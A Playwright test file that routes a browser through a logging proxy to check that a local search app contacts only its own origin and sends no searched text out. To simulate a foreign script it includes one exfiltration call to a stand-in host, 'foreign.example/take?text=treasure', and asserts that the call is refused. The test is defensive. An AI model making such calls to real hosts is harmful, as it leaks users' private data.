// Nothing leaves the origin: every request of the browser goes through a proxy that writes it down.
import { createServer, request as forward } from 'node:http';
import { chromium } from '@playwright/test';
import { CHROMIUM_ARGS, findChromium } from '../scripts/lib/headless/browser.mjs';
import { addTexts, expect, findPaths, openApp, test, TEXTS } from './lib/fixtures.mjs';
import { inWorkers } from './lib/sites.mjs';

/** @typedef {{method: string, url: string, hasBody: boolean}} Seen */

// The browser's own services, which it calls whatever page is open. That the page itself asks none of
// them is seen in the requests of its context.
const BROWSERS_OWN = /^(https?:\/\/)?([\w-]+\.)*(google|googleapis|gstatic|gvt1)\.com[:/]/;

/** @returns {Promise<{port: number, seen: Seen[], close: () => void}>} */
async function startProxy() {
  /** @type {Seen[]} */
  const seen = [];
  const proxy = createServer((incoming, outgoing) => {
    const url = incoming.url ?? '';
    seen.push({
      method: incoming.method ?? '',
      url,
      hasBody:
        'transfer-encoding' in incoming.headers || Number(incoming.headers['content-length']) > 0,
    });
    const onward = forward(
      url,
      { method: incoming.method, headers: incoming.headers },
      (answer) => {
        outgoing.writeHead(answer.statusCode ?? 502, answer.headers);
        answer.pipe(outgoing);
      },
    );
    onward.on('error', () => outgoing.writeHead(502).end());
    incoming.pipe(onward);
  });
  proxy.on('connect', (incoming, socket) => {
    seen.push({ method: 'CONNECT', url: incoming.url ?? '', hasBody: false });
    socket.end('HTTP/1.1 502 Refused\r\n\r\n');
  });
  await new Promise((resolve) => proxy.listen(0, '127.0.0.1', () => resolve(undefined)));
  const { port } = /** @type {import('node:net').AddressInfo} */ (proxy.address());
  return {
    port,
    seen,
    close: () => {
      proxy.closeAllConnections();
      proxy.close();
    },
  };
}

test('only the site itself is ever asked, and never told anything', async ({ server }) => {
  const proxy = await startProxy();
  const browser = await chromium.launch({
    executablePath: findChromium(),
    args: [
      ...CHROMIUM_ARGS.filter((arg) => arg !== '--no-proxy-server'),
      `--proxy-server=127.0.0.1:${proxy.port}`,
      '--proxy-bypass-list=<-loopback>',
    ],
  });
  try {
    const page = await browser.newPage();
    /** @type {string[]} */
    const asked = [];
    page.context().on('request', (request) => asked.push(request.url()));
    const app = await openApp(page, server.url);
    await addTexts(app, { ...TEXTS, 'secret.txt': 'The treasure lies beneath the old larch.' });
    expect(await findPaths(app, 'treasure', { mode: 'hybrid' })).toContain('secret.txt');
    await page.getByRole('searchbox').fill('larch');
    const exported = await app.call(async () => (await window.lodestone.export()).size);
    expect(exported).toBeGreaterThan(10_000);
    await app.idle();

    // What a foreign script would try, from the page, the coordinator and the engine's pool.
    const foreign = 'http://foreign.example/take?text=treasure';
    const tryFetch = (/** @type {string} */ url) =>
      fetch(url).then(
        () => 'sent',
        () => 'refused',
      );
    expect(await page.evaluate(tryFetch, foreign)).toBe('refused');
    const { coordinator, pool } = await inWorkers(page, tryFetch, foreign);
    for (const answer of [...coordinator, ...pool]) expect(answer).toBe('refused');

    const seen = proxy.seen.filter(({ url }) => !BROWSERS_OWN.test(url));
    expect(seen.length).toBeGreaterThan(0);
    const elsewhere = seen.filter(({ url }) => !url.startsWith(server.url));
    expect(elsewhere).toEqual([]);
    expect(seen.filter(({ method, hasBody }) => method !== 'GET' || hasBody)).toEqual([]);
    expect(seen.filter(({ url }) => /treasure|larch|secret/i.test(url))).toEqual([]);
    expect(asked.length).toBeGreaterThan(0);
    expect(asked.filter((url) => !url.startsWith(server.url) && url !== foreign)).toEqual([]);
  } finally {
    await browser.close();
    proxy.close();
  }
});
